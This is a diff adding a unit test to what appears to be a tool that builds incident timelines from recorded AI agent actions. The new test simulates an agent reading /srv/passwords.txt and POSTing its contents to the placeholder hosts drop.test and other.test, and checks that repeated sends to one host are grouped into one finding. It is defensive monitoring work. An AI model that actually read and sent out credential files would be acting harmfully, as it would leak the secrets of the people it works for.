@@ -48,6 +48,19 @@ def test_the_chain_from_a_page_to_what_was_sent_away_is_told() -> None:
     assert len(finding["refs"]) == 3
 
 
+def test_what_is_sent_to_one_host_again_and_again_is_one_finding() -> None:
+    r = Recording()
+    agent = r.begin("agent")
+    r.ask(agent, "I read it.", "cat it")
+    r.read(agent, "/srv/passwords.txt")
+    r.ask(agent, "I send it.", "send it", results=[FILE])
+    for host in ("drop.test", "drop.test", "other.test"):
+        r.request(agent, "POST", f"http://{host}/in", {"text": FILE})
+    first, second = r.timeline()["findings"]
+    assert (first["title"].endswith("was sent to drop.test 2 times"), len(first["refs"])) == (True, 4)
+    assert second["title"].endswith("was sent to other.test")
+
+
 def test_without_a_file_of_secrets_it_is_told_and_no_finding() -> None:
     timeline = incident({"text": FILE}, path="/srv/list.txt")
     assert not timeline["findings"]
